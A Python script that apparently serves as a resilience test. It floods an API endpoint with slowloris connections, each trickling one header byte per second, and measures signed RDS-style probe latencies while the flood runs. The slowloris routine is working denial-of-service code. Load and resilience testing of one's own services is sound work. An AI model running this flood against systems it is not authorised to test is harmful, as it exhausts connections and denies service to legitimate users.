#!/usr/bin/env python3
"""A connection flood against the API, and the service measured under it.

  flood.py [options] HOST PORT

Opens --clients slowloris connections to HOST:PORT: each sends a request
line at once, then one header byte per second, never finishing its
headers. Meanwhile it sends signed DescribeDBInstances requests (botocore's
signer, the credentials of the environment: region.env), each on a new
connection, one after the other. Runs --seconds, then closes everything
and prints one JSON object:

  clients         slowloris connections attempted
  connected       of those, how many the kernel accepted
  server_closed   how many the server closed while they trickled
  alive_at_end    still open when the flood stopped
  max_life_s      the longest a server-closed one lived
  probes, probe_ok, p50_ms, p99_ms, max_ms
                  the signed requests: sent, answered 200, latencies
                  (a failed or timed-out probe counts at its time taken)

Bounded: every socket has a timeout, and the run stops at --seconds.
"""
import argparse
import json
import selectors
import socket
import sys
import threading
import time

from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.session import Session
import http.client


def slowloris(host, port, n, seconds, out):
    sel = selectors.DefaultSelector()
    socks = {}
    start = time.monotonic()
    connected = 0
    for i in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect_ex((host, port))
        except OSError:
            s.close()
            continue
        socks[s] = {"t0": time.monotonic(), "closed": None, "sent": False}
        sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ)
    stop = start + seconds
    next_tick = time.monotonic() + 1.0
    while time.monotonic() < stop:
        for key, ev in sel.select(timeout=0.2):
            s = key.fileobj
            st = socks[s]
            if ev & selectors.EVENT_WRITE and not st["sent"]:
                try:
                    s.send(b"POST / HTTP/1.1\r\nHost: flood\r\nX-Slow: ")
                    st["sent"] = True
                    connected += 1
                except OSError:
                    st["closed"] = time.monotonic()
                    sel.unregister(s)
                    continue
                sel.modify(s, selectors.EVENT_READ)
            if ev & selectors.EVENT_READ:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    st["closed"] = time.monotonic()
                    sel.unregister(s)
        if time.monotonic() >= next_tick:
            next_tick += 1.0
            for s, st in socks.items():
                if st["sent"] and st["closed"] is None:
                    try:
                        s.send(b"a")
                    except OSError:
                        st["closed"] = time.monotonic()
                        sel.unregister(s)
    lives = [st["closed"] - st["t0"] for st in socks.values() if st["closed"] and st["sent"]]
    out.update(
        clients=n,
        connected=connected,
        server_closed=len(lives),
        alive_at_end=sum(1 for st in socks.values() if st["sent"] and st["closed"] is None),
        max_life_s=round(max(lives), 2) if lives else 0,
    )
    for s in socks:
        s.close()


def probe_once(host, port, creds, region):
    body = b"Action=DescribeDBInstances&Version=2014-10-31"
    url = "http://%s:%d/" % (host, port)
    req = AWSRequest(method="POST", url=url, data=body,
                     headers={"Content-Type": "application/x-www-form-urlencoded; charset=utf-8"})
    SigV4Auth(creds, "rds", region).add_auth(req)
    c = http.client.HTTPConnection(host, port, timeout=5)
    try:
        c.request("POST", "/", body=body, headers=dict(req.headers))
        r = c.getresponse()
        r.read()
        return r.status == 200
    except OSError:
        return False
    finally:
        c.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--clients", type=int, default=300)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--probe-gap", type=float, default=0.1)
    a = ap.parse_args()
    session = Session()
    creds = session.get_credentials()
    region = session.get_config_variable("region")
    out = {}
    t = threading.Thread(target=slowloris, args=(a.host, a.port, a.clients, a.seconds, out))
    t.start()
    lat, ok = [], 0
    time.sleep(min(2.0, a.seconds / 4))  # let the flood build up first
    stop = time.monotonic() + a.seconds - min(2.0, a.seconds / 4) - 0.5
    while time.monotonic() < stop:
        t0 = time.monotonic()
        if probe_once(a.host, a.port, creds, region):
            ok += 1
        lat.append((time.monotonic() - t0) * 1000)
        time.sleep(a.probe_gap)
    t.join()
    lat.sort()
    pick = lambda q: round(lat[min(len(lat) - 1, int(q * len(lat)))], 1) if lat else None
    out.update(probes=len(lat), probe_ok=ok, p50_ms=pick(0.5), p99_ms=pick(0.99),
               max_ms=round(lat[-1], 1) if lat else None)
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
